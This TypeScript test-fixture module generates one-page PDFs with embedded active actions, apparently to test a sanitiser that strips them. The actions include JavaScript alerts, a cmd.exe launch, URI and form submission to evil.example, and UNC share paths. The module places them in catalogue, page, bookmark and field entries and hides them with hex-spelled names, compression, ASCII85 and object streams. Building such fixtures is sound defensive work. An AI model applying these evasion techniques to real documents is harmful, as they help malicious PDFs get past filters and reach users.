import { deflateSync } from 'node:zlib'
import { bytesOf } from './made-files.ts'

/** The sentence on each test document's page, which the rewritten document must still contain. */
export const sentence = 'Dienstags zum Chor'

/** A malicious PDF, and how its payload is hidden. */
export type HiddenPdf = { readonly how: string; readonly bytes: Buffer }

type Next = () => number
type Choice = <T>(all: readonly T[]) => T

const share = '\\\\\\\\evil\\\\share'
const deeds: Readonly<Record<string, string>> = {
  script: '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>',
  'script in hexadecimal': '<< /S /JavaScript /JS <6170702E616C657274283129> >>',
  'script behind another action': '<< /S /Named /N /NextPage /Next << /S /JavaScript /JS (a) >> >>',
  program: '<< /S /Launch /F (cmd.exe) >>',
  page: '<< /S /URI /URI (https://evil.example) >>',
  'page of a share': `<< /S /URI /URI (file:${share}) >>`,
  'file of a share': `<< /S /GoToR /F (${share}\\\\a.pdf) /D [0 /Fit] >>`,
  'file in a file': `<< /S /GoToE /F << /Type /Filespec /F (${share}) >> /D [0 /Fit] >>`,
  form: '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> /Flags 4 >>',
  data: `<< /S /ImportData /F (${share}) >>`,
  rendition: '<< /S /Rendition /OP 0 /JS (a) >>',
  reset: '<< /S /ResetForm >>',
}

/**
 * Where an action can be placed: entries of the catalogue, of the page, and further objects; `@` stands for the action.
 */
const places: Readonly<Record<string, { catalog?: string; page?: string; more?: string }>> = {
  'the opening': { catalog: '/OpenAction @' },
  'the end': { catalog: '/AA << /WC @ /DP @ >>' },
  'a page': { page: '/AA << /O @ /C @ >>' },
  'a list of names': { catalog: '/Names << /JavaScript << /Names [(a) @] >> >>' },
  'a bookmark': {
    catalog: '/Outlines << /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>',
    more: '<< /Title (a) /A @ >>',
  },
  'a link': { page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A @ >>]' },
  'a note': { page: '/Annots [8 0 R]', more: '<< /Subtype /Text /Rect [0 0 9 9] /AA << /E @ >> >>' },
  'a field': {
    catalog: '/AcroForm << /Fields [8 0 R] /CO [8 0 R] >>',
    page: '/Annots [8 0 R]',
    more: '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (a) /Rect [0 0 9 9] /A @ /AA << /K @ /U @ >> >>',
  },
  'a film': {
    page: '/Annots [<< /Subtype /Screen /Rect [0 0 9 9] /A @ /AA << /PV @ >> >>]',
  },
}

const activeNames =
  /\/(JavaScript|JS|OpenAction|AA|Launch|URI|GoToR|GoToE|SubmitForm|ImportData|Rendition|ResetForm|Named|Names|Annots|Filespec|AcroForm|Outlines|Screen|Widget)(?![A-Za-z])/g

function hexadecimal(letter: string): string {
  return letter.charCodeAt(0).toString(16).padStart(2, '0')
}

/** Writes some letters of names as hexadecimal codes, which PDF allows. */
function spelled(text: string, next: Next, part: number): string {
  return text.replaceAll(activeNames, (name) =>
    name.replaceAll(/[A-Za-z]/g, (letter) => (next() < part ? `#${hexadecimal(letter)}` : letter)),
  )
}

function ascii85(bytes: Buffer): Buffer {
  const groups: string[] = []
  for (let at = 0; at < bytes.length; at += 4) {
    const part = bytes.subarray(at, at + 4)
    let value = Buffer.concat([part, Buffer.alloc(4 - part.length)]).readUInt32BE(0)
    const digits: string[] = []
    for (let digit = 0; digit < 5; digit += 1) {
      digits.unshift(String.fromCharCode(33 + (value % 85)))
      value = Math.floor(value / 85)
    }
    groups.push(
      value === 0 && part.length === 4 && digits.join('') === '!!!!!'
        ? 'z'
        : digits.slice(0, part.length + 1).join(''),
    )
  }
  return bytesOf(`${groups.join('')}~>`)
}

/** Encodes bytes with a PNG predictor: rows of eight bytes, each the difference to the byte before. */
function predicted(bytes: Buffer): Buffer {
  const columns = 8
  const padded = Buffer.concat([bytes, Buffer.alloc((columns - (bytes.length % columns)) % columns, ' ')])
  const rows: Buffer[] = []
  for (let at = 0; at < padded.length; at += columns) {
    const row = padded.subarray(at, at + columns)
    rows.push(Buffer.from([1, ...row.map((byte, index) => (byte - (row[index - 1] ?? 0)) & 0xff)]))
  }
  return Buffer.concat(rows)
}

type Packing = { readonly how: string; readonly entries: string; readonly pack: (bytes: Buffer) => Buffer }
const packings: readonly Packing[] = [
  { how: 'plain', entries: '', pack: (bytes) => bytes },
  { how: 'packed', entries: '/Filter /FlateDecode', pack: (bytes) => deflateSync(bytes) },
  { how: 'packed in a list', entries: '/Filter [/FlateDecode]', pack: (bytes) => deflateSync(bytes) },
  { how: 'packed, spelled', entries: '/F#69lter /Fl#61teDecode', pack: (bytes) => deflateSync(bytes) },
  {
    how: 'packed twice',
    entries: '/Filter [/FlateDecode /FlateDecode]',
    pack: (bytes) => deflateSync(deflateSync(bytes)),
  },
  {
    how: 'packed into letters',
    entries: '/Filter [/ASCII85Decode /FlateDecode]',
    pack: (bytes) => ascii85(deflateSync(bytes)),
  },
  {
    how: 'in hexadecimal',
    entries: '/Filter /ASCIIHexDecode',
    pack: (bytes) => bytesOf(`${bytes.toString('hex')}>`),
  },
  {
    how: 'packed behind a predictor',
    entries: '/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 8 >>',
    pack: (bytes) => deflateSync(predicted(bytes)),
  },
]

const lineEnds = ['\n', '\r\n', '\r'] as const
const streamEnds = ['\n', '\r\n', '\r', ' \n', ' \r\n'] as const

/** A one-page document with this action at this place, hidden in random ways. */
export function hiddenPdf(next: Next): HiddenPdf {
  const choose: Choice = (all) => all[Math.floor(next() * all.length)] as (typeof all)[number]
  const deed = choose(Object.keys(deeds))
  const place = choose(Object.keys(places))
  const part = choose([0, 0, 0.3, 1])
  const [isDirect, isPacked] = [next() < 0.5, next() < 0.6]
  const packing = choose(packings)
  const [lineEnd, streamEnd] = [choose(lineEnds), choose(streamEnds)]
  const padding = next() < 0.3 ? `/Padding (${'a'.repeat(1500)}) ` : ''
  const { catalog = '', page = '', more = 'null' } = places[place] ?? {}
  const action = deeds[deed] ?? ''
  const filled = (text: string) => spelled(text.replaceAll('@', isDirect ? action : '7 0 R'), next, part)
  const content = `BT /F1 12 Tf 9 40 Td (${sentence}) Tj ET`
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${filled(catalog)} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 72] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${filled(page)} >>`,
    undefined,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    'null',
    spelled(action, next, part),
    filled(more),
  ]
  const packed = isPacked ? packing : undefined
  return {
    how: [
      deed,
      place,
      isDirect ? 'direct' : 'referred to',
      `spelled ${part}`,
      packed?.how ?? 'no object stream',
      JSON.stringify(lineEnd + streamEnd),
      padding === '' ? '' : 'padded',
    ].join(', '),
    bytes: assemble(objects, { content, packing: packed, lineEnd, streamEnd, padding }),
  }
}

type Form = {
  readonly content: string
  readonly packing: Packing | undefined
  readonly lineEnd: string
  readonly streamEnd: string
  readonly padding: string
}

/** Writes the objects one by one or into an object stream, with a cross-reference table. */
function assemble(objects: readonly (string | undefined)[], form: Form): Buffer {
  const { content, packing, lineEnd, streamEnd, padding } = form
  let file = Buffer.from(`%PDF-1.7${lineEnd}`, 'latin1')
  const at = new Map<number, readonly [number, number, number]>()
  const add = (number: number, body: Buffer) => {
    at.set(number, [1, file.length, 0])
    file = Buffer.concat([
      file,
      bytesOf(`${number} 0 obj${lineEnd}`),
      body,
      bytesOf(`${lineEnd}endobj${lineEnd}`),
    ])
  }
  const stream = (entries: string, bytes: Buffer, end = '\n') =>
    Buffer.concat([
      bytesOf(`<< ${entries} /Length ${bytes.length} >>${lineEnd}stream${end}`),
      bytes,
      bytesOf(`${lineEnd}endstream`),
    ])
  add(4, stream('', bytesOf(content)))
  const inside = objects.flatMap((body, index) => (body === undefined ? [] : [{ number: index + 1, body }]))
  if (packing) {
    const head: number[] = []
    let offset = 0
    for (const [index, { number, body }] of inside.entries()) {
      head.push(number, offset)
      at.set(number, [2, 20, index])
      offset += body.length + 1
    }
    const first = `${head.join(' ')} `
    const all = bytesOf(first + inside.map(({ body }) => `${body} `).join(''))
    const entries = `${padding}/Type /ObjStm /N ${inside.length} /First ${first.length} ${packing.entries}`
    add(20, stream(entries, packing.pack(all), streamEnd))
  } else for (const { number, body } of inside) add(number, bytesOf(body))
  const begin = file.length
  at.set(21, [1, begin, 0])
  const rows = Array.from({ length: 22 }, (_, number) => {
    const [type, place, index] = at.get(number) ?? [0, 0, 0]
    const row = Buffer.alloc(7)
    row.writeUInt8(type, 0)
    row.writeUInt32BE(place, 1)
    row.writeUInt16BE(index, 5)
    return row
  })
  const table = stream('/Type /XRef /Size 22 /W [1 4 2] /Root 1 0 R', Buffer.concat(rows))
  const end = bytesOf(`${lineEnd}endobj${lineEnd}startxref${lineEnd}${begin}${lineEnd}%%EOF${lineEnd}`)
  return Buffer.concat([file, bytesOf(`21 0 obj${lineEnd}`), table, end])
}
